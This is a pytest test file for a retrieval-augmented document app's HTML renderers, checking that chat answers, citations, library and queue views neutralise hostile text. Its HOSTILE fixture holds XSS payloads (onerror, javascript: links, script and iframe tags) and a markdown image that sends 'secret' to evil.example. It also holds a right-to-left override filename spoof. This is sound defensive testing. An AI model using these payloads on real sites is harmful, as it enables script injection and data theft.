"""What the page shows is text: whatever documents, file names and the model say, at every moment of an answer."""

from dataclasses import replace
from pathlib import Path

import pytest
from scripted import make_document, make_hit
from selectolax.lexbor import LexborHTMLParser

from ragdesk.background import IntakeState
from ragdesk.types import (
    Answer,
    Citation,
    Entry,
    IngestProgress,
    IngestResult,
    Job,
    QuoteBox,
    Sentence,
    Timings,
)
from ragdesk.ui import (
    render,
    render_chat,
    render_citations,
    render_details,
    render_entries,
    render_library,
    render_queue,
)

HOSTILE = (
    "<img src=x onerror=alert(1)> ![a](http://evil.example/?q=secret) [go](javascript:alert(1)) <svg/onload=alert(1)> "
    '<script>alert(1)</script> <a href="http://evil.example">x</a> `</code><iframe src=//evil>` **</strong><b onclick=x>** '
    "<style>@import 'http://evil'</style> &lt;script&gt; \" ' \\ $x$ \u202egnp.exe <div style=background:url(//evil)>"
)
ALLOWED = {
    "div",
    "p",
    "span",
    "a",
    "strong",
    "code",
    "mark",
    "bdi",
    "ol",
    "ul",
    "li",
    "blockquote",
    "h2",
    "h3",
    "h4",
    "dl",
}
ALLOWED |= {"dt", "dd", "progress", "figure", "figcaption", "img", "em"}


def harmless(html: str) -> None:
    """Only our own elements; links lead to actions or our own routes; pictures come from our own route."""
    tree = LexborHTMLParser(f"<body>{html}</body>")
    assert tree.body is not None
    for node in tree.body.traverse():
        if node == tree.body:
            continue
        assert node.tag in ALLOWED, node.tag
        for name, value in node.attributes.items():
            assert not name.startswith("on"), name
            if name == "href":
                assert value is not None and value.startswith(("#rd:", "/ragdesk/")), value
            if name == "src":
                assert value is not None and value.startswith("/ragdesk/page/"), value


def citation(**more: object) -> Citation:
    values = {
        "number": 1, "chunk_id": "c" * 12, "document_id": "d" * 16, "document": HOSTILE, "title": HOSTILE, "page": 1,
        "section": HOSTILE, "quote": HOSTILE, "char_start": 0, "char_end": len(HOSTILE), "verified": True,
    }  # fmt: skip
    return Citation(**(values | more))  # type: ignore[arg-type]


def answer(**more: object) -> Answer:
    values = {
        "question": HOSTILE, "standalone_question": HOSTILE + "?", "text": HOSTILE, "verdict": "answered",
        "citations": (citation(),), "sentences": (Sentence(HOSTILE, (1,), True), Sentence(HOSTILE, (), False)),
        "hits": (make_hit(HOSTILE),), "timings": Timings(0.1), "model": HOSTILE,
    }  # fmt: skip
    return Answer(**(values | more))  # type: ignore[arg-type]


def test_an_answer_is_harmless_cut_at_every_position() -> None:
    for end in range(len(HOSTILE) + 1):
        harmless(render_chat.writing(HOSTILE[:end]))


@pytest.mark.parametrize("verdict", ["answered", "not_found", "unsupported"])
def test_finished_answers_evidence_and_citations_are_harmless(verdict: str) -> None:
    given = answer(verdict=verdict)
    harmless(render_chat.answer(given, "key"))
    harmless(render_chat.question(HOSTILE))
    harmless(render_chat.evidence(given.hits, {"d" * 16: HOSTILE}, HOSTILE))
    harmless(render_citations.citations(given, "key", 1, {1: "unchanged"}))
    harmless(render_citations.toolbar(citation(), make_document(name=HOSTILE)))
    harmless(render_citations.gone(citation()))
    harmless(render_citations.passage(HOSTILE * 3, 10, 40))
    harmless(render_library.hits(list(given.hits), {"d" * 16: HOSTILE}, HOSTILE))
    document = make_document(name=HOSTILE)
    harmless(render_library.documents([document]))
    harmless(render_library.documents([document], "", render_library.Removing(document.id, 2, 3)))


def test_details_and_entries_are_harmless() -> None:
    document = replace(make_document(name=HOSTILE), description=HOSTILE, sources=(HOSTILE,), title=HOSTILE)
    document = replace(document, collections=(HOSTILE,), properties=((HOSTILE, HOSTILE),))
    parts = [render_details.Inside(HOSTILE, "a" * 16, ""), render_details.Inside(HOSTILE, None, HOSTILE)]
    harmless(render_details.details(document, [make_hit(HOSTILE).chunk], [document], parts))
    for state in ("proposed", "approved", "rejected"):
        entry = Entry("e" * 16, state, HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE, HOSTILE)
        harmless(render_entries.entries([entry]))
        harmless(render_entries.entries([entry], entry.id))
    harmless(render_entries.saved())


@pytest.mark.parametrize(
    ("origin", "said"),
    [
        ("", "written by hand"),
        ("message 0123456789abcdef", "from a conversation"),
        ("handover A1B2C3D4", "from a person's reply"),
    ],
)
def test_an_entry_says_where_it_comes_from(origin: str, said: str) -> None:
    entry = Entry("e" * 16, "proposed", "How long?", "4 minutes", origin, None, "2026-01-01", "2026-01-01")
    assert f'<p class="rd-facts">{said}' in render_entries.entries([entry])


def test_what_search_could_not_do_stands_with_the_evidence_or_instead_of_it() -> None:
    note = "Your embedding model knows <English> only."
    for hits in ([make_hit("Die Pumpe")], []):
        shown = render_chat.evidence(hits, {}, "Was?", note)
        assert '<p class="rd-hint">Your embedding model knows &lt;English&gt; only.</p>' in shown
        assert "embedding" not in render_chat.evidence(hits, {}, "Was?")


def test_a_removal_says_how_many_answers_quote_the_document() -> None:
    shown = render_library.documents([make_document()], "", render_library.Removing("d" * 16, 2, 1))
    assert "2 files inside of it" in shown and "also delete 1 answer that quotes it" in shown
    assert "also delete" not in render_library.documents(
        [make_document()], "", render_library.Removing("d" * 16)
    )


def test_the_page_of_a_text_is_text_with_the_quote_marked() -> None:
    page = render_details.text_page(make_document(name=HOSTILE), HOSTILE, 4, 20)
    tree = LexborHTMLParser(page)
    assert tree.body is not None
    assert {node.tag for node in tree.body.traverse()} <= {"body", "h1", "p", "div", "mark"}
    [mark] = tree.css("#quote")
    assert mark.text() == HOSTILE[4:20]
    [text] = tree.css("div")
    assert text.text() == HOSTILE


def test_a_sentence_without_support_looks_different_and_says_so() -> None:
    shown = render_chat.answer(
        answer(sentences=(Sentence("True.", (1,), True), Sentence("Odd.", (), False)), text="True. Odd."), "k"
    )
    assert "rd-unsupported" in shown and shown.index("True.") < shown.index("rd-unsupported")


def test_the_highlight_is_laid_over_the_picture_in_shares_of_the_page() -> None:
    shown = render_citations.page("d" * 16, 3, (200.0, 400.0), [QuoteBox(3, 50, 100, 150, 120)], "file.pdf")
    assert "/ragdesk/page/dddddddddddddddd/3" in shown
    assert "left:24.500%;top:24.750%;width:51.000%;height:5.500%" in shown


def test_a_passage_is_read_without_the_marks_of_markdown() -> None:
    assert render.readable("## Limits\n\n| A | B |\n|---|---|\n| 1 | 2 |") == "Limits | A | B | | 1 | 2 |"


def test_names_lose_what_would_reorder_them() -> None:
    assert "\u202e" not in render.name("harmless\u202egnp.exe")


def test_actions_survive_the_way_through_the_page() -> None:
    address = render.action("chat", "open", "a:b#c", "ü %/")
    assert render.read_action(address.removeprefix("#rd:chat:") + "#7") == ["open", "a:b#c", "ü %/"]


# ---------------------------------------------------------------- the queue

EMPTY = IntakeState(False, None, (), (), (), None, None, "")


def job(number: int, name: str, **more: object) -> Job:
    values = {"path": Path("/kept"), "source": f"dropped/{number:016x}/{name}", "name": name, "batch": "app"}
    return Job(**(values | {"id": number} | more))  # type: ignore[arg-type]


def result(path: str, status: str = "ready", problem: str | None = None) -> IngestResult:
    found = None if status == "failed" else "d" * 16
    return IngestResult(path, found, path, status, 1, 3, 0.5, problem)  # type: ignore[arg-type]


def test_nothing_is_shown_of_an_empty_queue() -> None:
    for part in (render_queue.progress, render_queue.waiting, render_queue.finished, render_queue.said):
        assert part(EMPTY) == ""
    assert render_queue.held(EMPTY, 0) == ""


def test_the_queue_is_harmless_whatever_files_are_called() -> None:
    jobs = (job(1, HOSTILE), job(2, HOSTILE, container=HOSTILE, source=f"{HOSTILE}!/{HOSTILE}"))
    state = IntakeState(
        True,
        IngestProgress(jobs[0].source, HOSTILE, 0.5, 1, 3),  # type: ignore[arg-type]
        jobs,
        (job(3, HOSTILE, problem=HOSTILE),),
        (result(HOSTILE), result(HOSTILE + "2", "failed", HOSTILE)),
        3.0,
        100.0,
        HOSTILE,
    )
    for part in (render_queue.progress, render_queue.waiting, render_queue.finished, render_queue.said):
        harmless(part(state))
    harmless(render_queue.held(state, 0))
    harmless(render_queue.held(state, 3))
    harmless(render_queue.problems([(HOSTILE, HOSTILE)]))
    harmless(render_queue.folders({HOSTILE: HOSTILE}))


def test_the_file_in_hand_is_shown_once_with_its_stage_and_can_be_cancelled() -> None:
    first, second = job(1, "first.md"), job(2, "second.md")
    state = replace(
        EMPTY,
        waiting=(first, second),
        progress=IngestProgress(first.source, "encoding", 0.25, 7, 9, pages=400),
    )
    shown = render_queue.progress(state)
    assert "7 done" in shown and "2 to come" in shown and 'value="25"' in shown
    assert "page 100 of 400" in shown
    assert "first.md" in shown and "#rd:queue:cancel:1" in shown and "#rd:queue:cancel-all" in shown
    assert "first.md" not in render_queue.waiting(state)
    assert "#rd:queue:cancel:2" in render_queue.waiting(state)


def test_a_long_queue_is_cut_and_counted() -> None:
    state = replace(EMPTY, waiting=tuple(job(number, f"{number}.md") for number in range(1, 1_201)))
    assert render_queue.waiting(state).count("<li>") == render_queue.SHOWN
    assert "and 1,100 more" in render_queue.waiting(state)


@pytest.mark.parametrize(
    ("seconds", "words"),
    [
        (3, "less than a minute left"),
        (61, "about 1 minute left"),
        (170, "about 3 minutes left"),
        (8_000, "about 2 hours left"),
    ],
)
def test_time_left_is_said_roughly(seconds: float, words: str) -> None:
    assert render_queue.time_left(seconds) == words


def test_of_a_file_that_was_tried_again_only_the_last_result_counts() -> None:
    state = replace(EMPTY, finished=(result("/a.pdf", "failed", "locked"), result("/b.md"), result("/a.pdf")))
    assert render_queue.summary(render_queue.outcomes(state)) == "2 files taken in"
    held = replace(
        state, finished=state.finished[:2], held=(job(1, "a.pdf", source="/a.pdf", problem="locked"),)
    )
    assert render_queue.summary(render_queue.outcomes(held)) == "1 file taken in"


def test_sources_are_named_as_a_person_knows_them() -> None:
    assert render_queue.shown_path("dropped/0123456789abcdef/note.md") == "note.md"
    assert render_queue.shown_path("faq/0123456789abcdef") == "question and answer"
    assert render_queue.file_name("/mails/a.eml!/list.pdf").startswith("<bdi>list.pdf</bdi>")
    assert "in <bdi>a.eml</bdi>" in render_queue.file_name("/mails/a.eml!/list.pdf")
    assert "Stop all" in render_queue.progress(replace(EMPTY, waiting=(job(1, "a"),), problem="No embedder."))
    assert "stands still" in render_queue.progress(replace(EMPTY, problem="No embedder."))
